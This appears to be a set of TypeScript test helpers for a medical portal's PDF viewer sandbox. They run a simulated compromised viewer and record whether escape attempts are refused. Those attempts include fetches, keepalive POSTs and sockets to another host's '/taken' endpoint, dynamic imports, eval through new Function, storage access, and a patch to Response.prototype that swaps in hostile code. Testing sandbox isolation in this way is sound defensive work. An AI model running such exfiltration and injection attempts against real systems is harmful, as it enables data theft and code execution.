// oxlint-disable unicorn/consistent-function-scoping -- the functions run elsewhere, as texts
/**
 * Has a program run in a frame as the viewer would. It runs in the page.
 *
 * @param parts - The frame's document, and the program.
 * @returns Its findings by what it tried.
 */
export async function runOwned({
  html,
  program,
}: {
  readonly html: string;
  readonly program: string;
}): Promise<Record<string, string>> {
  const rules = { createHTML: (text: string) => text };
  const { trustedTypes } = globalThis as unknown as {
    trustedTypes: { createPolicy(name: string, made: typeof rules): typeof rules };
  };
  const frame = document.createElement('iframe');
  const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
  frame.setAttribute('sandbox', 'allow-scripts');
  frame.srcdoc = trustedTypes.createPolicy('medseal-frame', rules).createHTML(html);
  document.body.append(frame);
  await loaded;
  const { port1, port2 } = new MessageChannel();
  const found = new Promise<Record<string, string>>((resolve) => {
    port1.addEventListener('message', ({ data }) => resolve(data as Record<string, string>));
    port1.start();
  });
  frame.contentWindow?.postMessage(new TextEncoder().encode(program).buffer, '*', [port2]);
  return await found;
}

/**
 * Tries what somebody would who has all of the viewer. It runs in the viewer's place, as a text: so all that it needs stands in it.
 *
 * @param portal - Address of the node.
 * @param host - Host and port of somebody else.
 */
export function owned(portal: string, host: string): void {
  const elsewhere = `http://${host}/taken`;
  const { importScripts } = globalThis as unknown as { importScripts: (url: string) => void };
  const settled = async (target: EventTarget, good: string): Promise<unknown> =>
    await new Promise((resolve, reject) => {
      target.addEventListener(good, resolve);
      target.addEventListener('error', reject);
    });
  const request = async (open: IDBOpenDBRequest): Promise<unknown> =>
    await settled(open, 'success');
  const inner = (code: string): Worker =>
    new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
  const ways: Record<string, () => unknown> = {
    'fetch of the portal': async () => await fetch(`${portal}/hospital/v1/network`),
    'fetch without an answer': async () => await fetch(elsewhere, { mode: 'no-cors' }),
    'fetch that outlives it': async () =>
      await fetch(elsewhere, { mode: 'no-cors', method: 'POST', body: 'a', keepalive: true }),
    'old request': () => {
      const old = new XMLHttpRequest();
      old.open('GET', elsewhere, false);
      old.send();
    },
    socket: async () => await settled(new WebSocket(`ws://${host}`), 'open'),
    events: async () => await settled(new EventSource(elsewhere), 'open'),
    script: () => importScripts(`${portal}/hospital/portal/worker.js`),
    'script of a text': () => importScripts('data:text/javascript,1'),
    'module elsewhere': async () => await import(elsewhere),
    // oxlint-disable-next-line typescript/no-implied-eval -- the policy must refuse it
    'code of a text': () => new Function('return 1')() as unknown,
    database: async () => await request(indexedDB.open('medseal')),
    caches: async () => await caches.keys(),
    files: async () => await navigator.storage.getDirectory(),
    locks: async () => await navigator.locks.query(),
    'worker elsewhere': async () =>
      await settled(new Worker(`${portal}/hospital/portal/worker.js`), 'message'),
    'worker within': async () => {
      const within = inner(
        `fetch('${elsewhere}', { mode: 'no-cors' }).then(() => postMessage(1), () => { throw new Error('refused'); })`,
      );
      return await settled(within, 'message');
    },
    page: () => {
      if (typeof document === 'undefined') throw new Error('refused');
    },
    'peer to peer': () => new RTCPeerConnection(),
  };
  const tryAll = async (port: MessagePort | undefined): Promise<void> => {
    const found: Record<string, string> = { origin: self.origin };
    for (const [way, tried] of Object.entries(ways)) {
      try {
        await tried();
        found[way] = 'done';
      } catch {
        found[way] = 'refused';
      }
    }
    port?.postMessage(found);
  };
  self.addEventListener('message', ({ ports: [port] }) => void tryAll(port));
}

/**
 * Has the page hand a program over in the viewer's place. It runs in the page.
 *
 * @param program - The program.
 */
export function actAsViewer(program: string): void {
  // oxlint-disable-next-line typescript/unbound-method -- it is called with its response
  const real = Response.prototype.arrayBuffer;
  Response.prototype.arrayBuffer = async function arrayBuffer(): Promise<ArrayBuffer> {
    const content = await real.call(this);
    return this.url.includes('pdfWorker') ? new TextEncoder().encode(program).buffer : content;
  };
}

/**
 * Opens and draws as the viewer does, and floods the page half a second later. It runs in the viewer's place, as a text.
 *
 * @param flood - Floods the page.
 */
export function floods(flood: (port: MessagePort) => void): void {
  self.addEventListener('message', ({ ports: [port] }) => {
    if (port === undefined) return;
    port.addEventListener('message', ({ data }: MessageEvent<object>) => {
      if ('open' in data) return port.postMessage({ pages: 1 });
      const canvas = new OffscreenCanvas(9, 9);
      canvas.getContext('2d');
      port.postMessage({ picture: canvas.transferToImageBitmap(), lacks: false });
      return setTimeout(flood, 500, port);
    });
    port.start();
  });
}
